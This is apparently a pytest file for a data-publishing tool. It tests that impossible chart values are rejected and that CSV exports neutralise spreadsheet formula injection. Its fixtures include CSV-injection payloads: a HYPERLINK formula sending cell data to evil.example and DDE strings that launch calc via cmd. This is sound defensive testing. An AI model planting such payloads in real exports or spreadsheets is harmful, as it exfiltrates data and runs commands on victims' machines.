"""Numbers and cells: series values a chart cannot draw are refused by `check`, every published CSV
neutralises formula starts (full-width and after spaces too) but keeps numbers numeric, and list
cells read back as the lists they were."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from explainer.publish.opendata import FORMULA_STARTS, neutralise_formula

from .bounded import explainer
from .support import assert_clean_error, minimal, run_check, write_content

# --- values ---------------------------------------------------------------------------
# series.yml as written by the tests below: the first point's value is on line 12, column 12.
VALUE_LINE = "content/series.yml:12:12: series[0].points[0].value"


def _series_text(value: str) -> str:
    return (
        "- id: series-a\n"
        "  title: Series A\n"
        "  unit: usd-billion\n"
        "  description: Values.\n"
        "  said_by: act-b\n"
        "  estimate: true\n"
        "  sources: [src-a]\n"
        "  topics: [topic-a]\n"
        "  actors: [act-a]\n"
        "  points:\n"
        "  - date: '2019'\n"
        f"    value: {value}\n"  # line 12, the value at column 12
        "  - date: 2020-06\n"
        "    value: 2\n"
    )


def _project(tmp_path: Path, value: str) -> Path:
    content = minimal()
    write_content(tmp_path / "content", content, raw={"series.yml": _series_text(value)})
    (tmp_path / "docs").mkdir()
    (tmp_path / "docs" / "index.md").write_text("# Home\n", encoding="utf-8")
    return tmp_path


SITE = ("--site-url", "https://example.org/site/", "--site-name", "Site")
# (YAML as written, what the message says). YAML 1.1 floats need a dot: `1e400` is text.
OUT_OF_RANGE = {
    "overflows to infinity": ("1.0e+400", "inf is not a number a chart can show"),
    "overflows negative": ("-1.0e+400", "-inf is not a number a chart can show"),
    "tagged overflow": ("!!float 1e999", "inf is not a number a chart can show"),
    "infinity": (".Inf", "inf is not a number a chart can show"),
    "not a number": (".NaN", "nan is not a number a chart can show"),
    "largest float": ("1.7976931348623157e+308", "1.79769e+308 is out of range"),
    "pygal overflows": ("1.0e+300", "1e+300 is out of range"),
    "past exact integers": ("9.007199254740993e+15", "9.0072e+15 is out of range"),
    "negative and huge": ("-2.5e+200", "-2.5e+200 is out of range"),
    "hex past the range": ("0x38D7EA4C68001", "1,000,000,000,000,001 is out of range"),
    "huge integer": ("1" + "0" * 400, "number '10000000000000000000…' has 401 digits; at most 15 are allowed"),
}


@pytest.mark.parametrize("case", list(OUT_OF_RANGE), ids=str)
def test_check_refuses_values_a_chart_cannot_draw(tmp_path: Path, case: str) -> None:
    value, message = OUT_OF_RANGE[case]
    project = _project(tmp_path, value)
    result = run_check(project / "content")
    output = assert_clean_error(result, f"{VALUE_LINE}: {message}")
    assert result.returncode == 1, output


@pytest.mark.parametrize("case", ["pygal overflows", "largest float", "overflows to infinity"], ids=str)
def test_export_stops_with_the_same_message_and_writes_nothing(tmp_path: Path, case: str) -> None:
    """These crashed the chart drawing with an OverflowError once `check` had passed."""
    value, message = OUT_OF_RANGE[case]
    project = _project(tmp_path, value)
    result = explainer(project, "export", str(tmp_path / "out"), cpu_seconds=60)
    assert result.returncode == 1
    assert "Traceback" not in result.stderr and "OverflowError" not in result.stderr, result.stderr
    assert f"{VALUE_LINE}: {message}" in result.stderr
    assert not (tmp_path / "out").exists()


@pytest.mark.parametrize("value", ["1.0e+15", "-1.0e+15", "999999999999999", "-0.0", "1.0e-300", "-12.5"])
def test_values_at_the_edges_of_the_range_build(tmp_path: Path, value: str) -> None:
    project = _project(tmp_path, value)
    result = explainer(project, "export", str(tmp_path / "out"), cpu_seconds=60)
    assert result.returncode == 0, result.stderr


def test_negative_zero_is_published_as_zero(tmp_path: Path) -> None:
    project = _project(tmp_path, "-0.0")
    result = explainer(project, "data", str(tmp_path / "out"), *SITE, cpu_seconds=60)
    assert result.returncode == 0, result.stderr
    rows = list(csv.DictReader(io.StringIO((tmp_path / "out" / "data" / "series.csv").read_text(), newline="")))
    assert rows[0]["value"] == "0.0"
    points = json.loads((tmp_path / "out" / "data" / "series-series-a.json").read_text())["points"]
    assert str(points[0]["value"]) == "0.0"


# --- cells ----------------------------------------------------------------------------
# Starts a spreadsheet may run, as content can write them (text fields are stripped, so a
# leading space or tab only survives behind an invisible-but-allowed or full-width space).
FORMULA_CELLS = {
    "full-width equals": '＝HYPERLINK("https://evil.example/?"&A1,"pwn")',
    "full-width plus": "＋1+cmd|' /C calc'!A0",
    "full-width minus": "－1+cmd|' /C calc'!A0",
    "full-width at": "＠SUM(1+1)",
    "small equals": "﹦1+1",
    "ideographic space then equals": "\u3000=1+1",
    "no-break space then plus": "\u00a0+1+1",
    "em space then at": "\u2003@SUM(1)",
}


@pytest.mark.parametrize("case", list(FORMULA_CELLS), ids=str)
def test_neutraliser_catches_other_forms(case: str) -> None:
    cell = FORMULA_CELLS[case]
    assert neutralise_formula(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["Plain text", "1-2", "a=b", "［bracket］", "-", ""])
def test_neutraliser_leaves_other_text_alone_but_a_lone_minus(cell: str) -> None:
    expected = "'-" if cell == "-" else cell
    assert neutralise_formula(cell) == expected


ONE_ENTRY_WITH_SEPARATORS = 'Alias; with a semicolon, a comma and "quotes"'


def _published(tmp_path: Path) -> Path:
    content = minimal()
    [term] = [t for t in content["terms"] if t["id"] == "term-a"]
    term["aliases"] = [ONE_ENTRY_WITH_SEPARATORS, "second", FORMULA_CELLS["full-width equals"]]
    [fact] = [f for f in content["facts"] if f["id"] == "fact-a"]
    fact["statement"] = FORMULA_CELLS["full-width plus"]
    fact["note"] = FORMULA_CELLS["ideographic space then equals"]
    series = content["series"][0]
    series["points"][0]["value"] = -3.5
    series["points"][0]["note"] = '=HYPERLINK("https://evil.example/","pwn")'
    series["points"][1]["note"] = FORMULA_CELLS["full-width at"]
    folder = write_content(tmp_path / "content", content)
    result = explainer(tmp_path, "--content", str(folder), "data", str(tmp_path / "out"), *SITE, cpu_seconds=60)
    assert result.returncode == 0, result.stderr
    return tmp_path / "out" / "data"


def _cells(path: Path) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8"), newline="")))


def test_no_published_csv_cell_starts_a_formula(tmp_path: Path) -> None:
    data = _published(tmp_path)
    files = sorted(data.glob("*.csv"))
    assert {f.name for f in files} >= {"facts.csv", "events.csv", "terms.csv", "series.csv", "series-series-a.csv"}
    for file in files:
        for row in _cells(file):
            for column, cell in row.items():
                if column == "value":
                    continue  # numbers, checked below
                assert not neutralise_formula(cell).startswith("''"), f"{file.name}: {column}: {cell!r}"
                leading = cell.lstrip(" \u3000\u00a0\u2003")
                assert not leading.startswith(FORMULA_STARTS + ("＝", "＋", "－", "＠")), (
                    f"{file.name}: {column} starts a formula: {cell!r}"
                )


def test_series_notes_are_neutralised_and_negative_values_stay_numbers(tmp_path: Path) -> None:
    data = _published(tmp_path)
    for name in ("series.csv", "series-series-a.csv"):
        first, second = _cells(data / name)
        assert first["note"] == '\'=HYPERLINK("https://evil.example/","pwn")'
        assert second["note"] == "'" + FORMULA_CELLS["full-width at"]
        assert first["value"] == "-3.5" and float(first["value"]) == -3.5
    [point] = json.loads((data / "series-series-a.json").read_text())["points"][:1]
    assert point["note"] == '=HYPERLINK("https://evil.example/","pwn")'  # the JSON keeps the text exact


def test_list_cells_read_back_as_the_original_lists(tmp_path: Path) -> None:
    data = _published(tmp_path)
    for plural in ("terms", "facts", "events"):
        items = {i["id"]: i for i in json.loads((data / f"{plural}.json").read_text())}
        for row in _cells(data / f"{plural}.csv"):
            for column, value in items[row["id"]].items():
                if isinstance(value, list):
                    assert json.loads(row[column]) == value, f"{plural}.csv {row['id']}.{column}: {row[column]!r}"
    [row] = [r for r in _cells(data / "terms.csv") if r["id"] == "term-a"]
    assert json.loads(row["aliases"])[0] == ONE_ENTRY_WITH_SEPARATORS
    for row in _cells(data / "series.csv"):
        assert json.loads(row["sources"]) == ["src-a"]
